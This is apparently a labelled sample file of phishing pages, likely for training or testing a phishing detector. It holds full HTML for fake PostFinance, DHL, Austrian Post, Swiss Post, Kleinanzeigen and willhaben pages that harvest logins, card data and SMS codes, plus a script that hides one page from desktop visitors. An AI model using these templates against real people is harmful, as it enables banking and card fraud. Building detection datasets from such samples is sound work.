import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footerDe, b64 } from '../parts/zv-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zv-postfinance-it-conferma', label: 'phishing', kind: 'bank-kit',
  url: 'https://postfinance-conferma.ch-sicurezza.com/it/login',
  body: doc({ title: 'PostFinance – Login', lang: 'it-CH', css: '.top{background:#ffcc00}.btn{background:#ffcc00;color:#000}',
    body: `<header class="top"><div class="wrap"><b>PostFinance</b></div></header><div class="wrap" style="max-width:460px"><div class="box" style="margin-top:30px">
<h2>Conferma la tua identità</h2><p>Abbiamo rilevato un accesso insolito al tuo conto. Per motivi di sicurezza il tuo accesso sarà limitato fino alla conferma dei tuoi dati.</p>
<form method="post" action="/it/verifica.php"><label>ID utente / numero e-finance</label><input name="efin"><label>Password</label><input type="password" name="pw"><label>Numero PostFinance Card</label><input name="card"><label>Data di nascita</label><input name="dob"><p><button class="btn">Continua</button></p></form></div></div>` }),
},
{
  id: 'zv-dhl-zollgebuehr-karte', label: 'phishing', kind: 'parcel-fee-kit',
  url: 'https://dhl-paket.de-zustellung.xyz/sendung/JJD0001476092831',
  body: doc({ title: 'DHL Sendungsverfolgung', css: '.top{background:#ffcc00}.btn{background:#d40511;color:#fff}.bar{height:8px;background:#eee}.bar i{display:block;height:8px;width:70%;background:#d40511}',
    body: `<header class="top"><div class="wrap"><b style="color:#d40511;font-size:24px;font-style:italic">DHL</b></div></header><div class="wrap" style="max-width:620px"><div class="box" style="margin-top:30px">
<p>Sendungsnummer: <b>JJD0001476092831</b></p><div class="bar"><i></i></div><h2>Zustellung angehalten – Zollgebühr offen</h2>
<p>Ihre Sendung aus dem Nicht-EU-Ausland konnte nicht zugestellt werden, da Einfuhrabgaben in Höhe von <b>1,99 €</b> offen sind. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.</p>
<form method="post" action="/sendung/pay.php"><label>Name</label><input name="name"><label>Kartennummer</label><input name="cc" autocomplete="cc-number"><div style="display:flex;gap:8px"><div style="flex:1"><label>MM/JJ</label><input name="exp"></div><div style="flex:1"><label>CVV</label><input name="cvv"></div></div><p><button class="btn">1,99 € bezahlen</button></p></form></div></div>` }),
},
{
  id: 'zv-post-at-zustellung-mobile', label: 'phishing', kind: 'parcel-fee-kit',
  url: 'https://post-at.paket-info.cfd/at/',
  body: doc({ title: 'Österreichische Post – Sendung', lang: 'de-AT', css: '.top{background:#ffdc00}.btn{background:#000;color:#ffdc00}',
    body: `<header class="top"><div class="wrap"><b>post.at</b></div></header><div class="wrap" style="max-width:520px"><div class="box" style="margin-top:20px">
<h2>Ihre Sendung wartet</h2><p>Wegen einer unvollständigen Adresse konnte Ihr Paket nicht zugestellt werden. Neuer Zustellversuch: 0,59 €.</p>
<form method="post" action="/at/adr.php"><label>Vor- und Nachname</label><input name="n"><label>Adresse</label><input name="a"><label>PLZ / Ort</label><input name="p"><label>Telefon</label><input name="t"><p><button class="btn">Weiter zur Zahlung</button></p></form></div></div>
<script>if(!/Android|iPhone|iPad/i.test(navigator.userAgent)){document.body.innerHTML='<h1 style="font-family:Arial;text-align:center;margin-top:20%">404 Not Found</h1>'}</script>` }),
},
{
  id: 'zv-swisspost-paket-fr', label: 'phishing', kind: 'parcel-fee-kit',
  url: 'https://swisspost-livraison.ch-colis.info/suivi',
  body: doc({ title: 'La Poste Suisse – Suivi des envois', lang: 'fr-CH', css: '.top{background:#ffcc00}.btn{background:#000;color:#fff}',
    body: `<header class="top"><div class="wrap"><b>LA POSTE</b> 🇨🇭</div></header><div class="wrap" style="max-width:520px"><div class="box" style="margin-top:20px">
<h2>Votre colis est en attente de frais de dédouanement</h2><p>Montant dû: <b>CHF 2.95</b></p><form method="post" action="/suivi/paiement.php"><label>Titulaire</label><input name="h"><label>Numéro de carte</label><input name="c"><label>Expiration</label><input name="e"><label>CVV</label><input name="v"><p><button class="btn">Payer</button></p></form></div></div>` }),
},
{
  id: 'zv-kleinanzeigen-sicher-bezahlen', label: 'phishing', kind: 'marketplace-payment-kit',
  url: 'https://kleinanzeigen.de-sicher-bezahlen.com/deal/2841957330',
  body: doc({ title: 'Kleinanzeigen – Sicher bezahlen: Zahlung erhalten', css: '.top{background:#1d4b00;color:#fff}.btn{background:#7bb800;color:#fff;width:100%}.item{display:flex;gap:14px;border:1px solid #ddd;padding:10px;border-radius:6px}',
    body: `<header class="top"><div class="wrap"><b>kleinanzeigen</b></div></header><div class="wrap" style="max-width:560px"><div class="box" style="margin-top:24px">
<div class="item"><div style="width:80px;height:80px;background:#ddd"></div><div><b>Kinderwagen Bugaboo Fox 3</b><br>420 €<br><small>Käufer: Markus W. · Versand über DHL</small></div></div>
<h2>Der Käufer hat den Artikel bezahlt</h2><p>Um das Geld zu erhalten, geben Sie bitte die Daten der Karte ein, auf die die Zahlung überwiesen werden soll.</p>
<form method="post" action="/deal/receive.php"><label>Karteninhaber</label><input name="holder"><label>Kartennummer</label><input name="card"><label>Gültig bis</label><input name="exp"><label>CVC</label><input name="cvc"><label>Verfügbarer Kontostand (zur Prüfung)</label><input name="balance"><p><button class="btn">Zahlung erhalten</button></p></form>
<p style="font-size:12px">Geschützt durch Sicher bezahlen. Geld-zurück-Garantie.</p></div></div>
<script src="//code.jivosite.com/widget/Xk28dL1p" async></script>` }),
},
{
  id: 'zv-willhaben-paylivery-at', label: 'phishing', kind: 'marketplace-payment-kit',
  url: 'https://willhaben.at-paylivery.shop/iad/kaufen/4472910',
  body: doc({ title: 'willhaben PayLivery – Zahlung empfangen', lang: 'de-AT', css: '.btn{background:#0a85c9;color:#fff}',
    body: `<div class="wrap" style="max-width:520px"><div class="box" style="margin-top:24px">${mark('willhaben', '#0a85c9')}<h2>Zahlung für „E-Bike KTM Macina“ eingegangen</h2><p>Betrag: € 1.150,00. Bestätigen Sie Ihre Karte für die Gutschrift.</p>
<form method="post" action="/iad/pay.php"><label>Kartennummer</label><input name="pan"><label>Ablauf</label><input name="exp"><label>CVC</label><input name="cvc"><p><button class="btn">Geld empfangen</button></p></form>
<div id="sms" style="display:none"><label>Bestätigungscode aus der SMS Ihrer Bank</label><input name="otp"></div></div></div>` }),
},
];
